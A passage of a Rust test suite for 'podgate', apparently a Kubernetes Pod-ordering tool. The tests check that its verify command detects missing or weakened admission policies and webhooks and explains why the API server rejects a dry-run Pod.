        |pod| {
            let proxy = json!({"name": "istio-proxy", "image": "i", "restartPolicy": "Always"});
            pod["spec"]["initContainers"].as_array_mut().unwrap().push(proxy);
            pod["spec"]["volumes"].as_array_mut().unwrap().insert(0, json!({"name": "istio", "emptyDir": {}}));
        },
        // A program of another webhook starts the gate.
        |pod| {
            let second = &mut pod["spec"]["containers"][1];
            second["args"] = second["command"].take();
            second["command"] = json!(["/vault-env"]);
        },
        // Gates do not depend on the list order.
        |pod| pod["spec"]["containers"].as_array_mut().unwrap().reverse(),
    ];
    for change in changes {
        let cluster = Cluster { dry_run: DryRun::Changes(change), ..Cluster::default() };
        assert_eq!(cluster.problems(), (0, Vec::new()));
    }
}

#[test]
fn webhook_is_found_by_name_or_label() {
    let (mut by_name, mut by_label, mut emptied) = (configuration(), configuration(), configuration());
    by_name["metadata"] = json!({"name": "prefixed"});
    by_label["metadata"]["name"] = json!("prefixed");
    by_label["webhooks"][0]["name"] = json!("pods.example.com");
    emptied["webhooks"] = json!([]);
    let other = json!({"metadata": {"name": "podgate-webhook"}, "webhooks": [{
        "name": "sidecars.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None", "clientConfig": {}}]});
    for (configuration, is_found) in [(by_name, true), (by_label, true), (emptied, false), (other, false)] {
        let cluster = Cluster { configuration: Some(configuration.clone()), ..Cluster::default() };
        let (_, findings) = cluster.verify();
        let has = |wanted: &str| findings.iter().any(|[_, rule, ..]| rule == wanted);
        assert_eq!((has("injected"), has("missing-webhook")), (is_found, !is_found), "{configuration}: {findings:?}");
    }
}

/// Removes or weakens each policy of podgate, and each binding of a policy.
#[test]
fn missing_or_weakened_policy_is_reported() {
    let none = json!({"matchLabels": {"none": "none"}});
    let of_policy: [(Change, &str); 5] = [
        (None, "the cluster does not have the ValidatingAdmissionPolicy NAME: "),
        (Some(("failurePolicy", json!("Ignore"))), "policy NAME has no effect, because its failurePolicy is Ignore"),
        (Some(("validations", json!([]))), "policy NAME has no effect, because it has no validations"),
        (Some(("validations", Value::Null)), "policy NAME has no effect, because it has no validations"),
        (Some(("matchConstraints", json!({"excludeResourceRules": [{}]}))), "because it excludes some objects"),
    ];
    let of_binding: [(Change, &str); 6] = [
        (None, "the cluster does not have the ValidatingAdmissionPolicyBinding NAME: "),
        (Some(("validationActions", json!(["Warn", "Audit"]))), "its binding does not have the action Deny"),
        (Some(("validationActions", Value::Null)), "its binding does not have the action Deny"),
        (Some(("policyName", json!("other"))), "its binding names another policy"),
        (Some(("matchResources", json!({"namespaceSelector": none}))), "because its binding excludes some objects"),
        (Some(("matchResources", json!({"objectSelector": none}))), "because its binding excludes some objects"),
    ];
    let unknown_containers = ["policies/podgate-unknown-containers", "policybindings/podgate-unknown-containers"];
    let own_pod = ["policies/podgate-own-pod", "policybindings/podgate-own-pod"];
    for ([policy, binding], effect) in [
        (unknown_containers, "a Pod whose order names an unknown container starts in no order"),
        (own_pod, "a sidecar with podgate's role may change every Pod of its namespace"),
    ] {
        let changes = of_policy.iter().map(|it| (policy, it)).chain(of_binding.iter().map(|it| (binding, it)));
        for (path, (change, expected)) in changes {
            let cluster = Cluster { policy_change: Some((path, change.clone())), ..Cluster::default() };
            let (code, findings) = cluster.problems();
            let [[level, rule, message, _]] = &findings[..] else { panic!("{path}: {findings:?}") };
            assert_eq!((code, level.as_str(), rule.as_str()), (1, "error", "missing-policy"), "{path}");
            let expected = expected.replace("NAME", path.split_once('/').unwrap().1);
            assert!(message.contains(&expected) && message.ends_with(effect), "{path}: {message}");
        }
    }
}

/// Tests the messages of API servers from 1.34 to 1.36.
#[test]
fn refusals_name_the_way_out() {
    let cases = [
        (
            403,
            "pods \"p-x7k2p\" is forbidden: exceeded quota: small, requested: pods=1, used: pods=2, limited: pods=2",
            "podgate.io/sidecar-resources",
        ),
        (
            403,
            "pods \"p-x7k2p\" is forbidden: failed quota: small: must specify limits.cpu for: podgate",
            "podgate.io/sidecar-resources",
        ),
        (
            403,
            "pods \"p-x7k2p\" is forbidden: minimum memory usage per Container is 64Mi, but request is 16Mi",
            "podgate.io/sidecar-resources",
        ),
        (
            403,
            "pods \"p-x7k2p\" is forbidden: violates PodSecurity \"restricted:latest\": runAsNonRoot != true (containers \"db\", \"podgate\" must set securityContext.runAsNonRoot=true)",
            "find the webhook that changes them",
        ),
        (
            400,
            "admission webhook \"policy.example.com\" denied the request: no emptyDir",
            "let it accept podgate's sidecar",
        ),
        (
            422,
            "pods \"p-x7k2p\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no",
            "let it accept podgate's sidecar",
        ),
        (500, "failed calling webhook \"sidecars.example.com\": connection refused", "does not answer"),
    ];
    for (code, message, fix) in cases {
        let cluster = Cluster { dry_run: DryRun::Rejects(code, message), ..Cluster::default() };
        let (_, findings) = cluster.problems();
        let [[level, rule, text, found]] = &findings[..] else { panic!("{message}: {findings:?}") };
        assert_eq!((level.as_str(), rule.as_str()), ("warning", "pod-rejected"), "{message}");
        assert!(text.ends_with(message) && found.contains(fix), "{text}; {found}");
    }
    for (code, message) in [
        (400, "admission webhook \"policy.example.com\" does not support dry run"),
        (
            403,
            "pods \"p-x7k2p\" is forbidden: error looking up service account shop/worker: serviceaccount \"worker\" not found",
        ),
        (409, "the object has been modified"),
    ] {
        let cluster = Cluster { dry_run: DryRun::Rejects(code, message), ..Cluster::default() };
        let (_, findings) = cluster.problems();
        let [[level, rule, text, _]] = &findings[..] else { panic!("{message}: {findings:?}") };
        assert_eq!((level.as_str(), rule.as_str()), ("note", "dry-run-skipped"), "{message}");
        assert!(text.ends_with(message), "{text}");
    }
}

#[test]
fn pods_without_a_token_need_no_rights() {
    let mut pod = ordered_pod("Deployment", "ordered", true);
    pod["spec"]["initContainers"][0]["args"] = json!(["--publish", "none"]);
    let cluster = Cluster { pods: vec![webhook_pod("True"), pod], may_publish: false, ..Cluster::default() };
    assert_eq!(cluster.problems(), (0, Vec::new()));
}

#[test]
fn namespace_of_the_dry_run_is_a_flag() {
    let cluster = Cluster { denied: &["/api/v1/namespaces/bank/pods"], ..Cluster::default() };
    let (code, out, _) = cluster.serve().run(&["verify", "-n", "bank"]);
    let expected = "warning: the API server rejects the Pod of the dry run: you may not ask; ";
    assert!(code == 0 && out.contains(expected), "{out}");
}

#[test]
fn unreachable_cluster_gives_one_line() {
    let server = FakeApiServer::new(|_| Answer::Disconnect);
    let (code, out, err) = server.run(&["verify"]);
    assert_eq!((code, out.as_str(), err.matches('\n').count()), (1, "", 1), "{err}");
}

/// Each heading on the page equals the message of its finding, with `…` for the parts that vary.
#[test]
fn each_finding_has_its_section_in_the_troubleshooting_page() {
    let page = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/troubleshooting.md")).unwrap();
    let (_, findings) = page.split_once("\n## Findings of verify\n").unwrap();
    let findings = findings.split("\n## ").next().unwrap();
    let sections: Vec<(&str, &str)> =
        findings.split("\n### ").skip(1).map(|section| section.split_once('\n').unwrap()).collect();
    let is_about = |heading: &str, message: &str| {
        let parts = heading.split('…').map(str::trim_end);
        parts.into_iter().try_fold(message, |rest, part| rest.split_once(part).map(|(_, rest)| rest)).is_some()
            && heading.split('…').next().is_some_and(|start| message.starts_with(start))
    };
    let mut used = BTreeSet::new();
    let clusters = broken_clusters().into_iter().map(|(cluster, _)| cluster).chain([Cluster::default()]);
    for [level, rule, message, _] in clusters.flat_map(|cluster| cluster.verify().1) {
        let own: Vec<_> = sections.iter().filter(|(heading, _)| is_about(heading, &message)).collect();
        let [(heading, text)] = own[..] else { panic!("{message}: {own:?}") };
        let first = text.trim_start().lines().next().unwrap().to_lowercase();
        assert!(first.contains(&format!("`{rule}`")) && first.contains(&level), "{heading}: {first}");
        used.insert(*heading);
    }
    let unused: Vec<_> = sections.iter().filter(|(heading, _)| !used.contains(heading)).collect();
    assert!(unused.is_empty(), "{unused:?}");
}
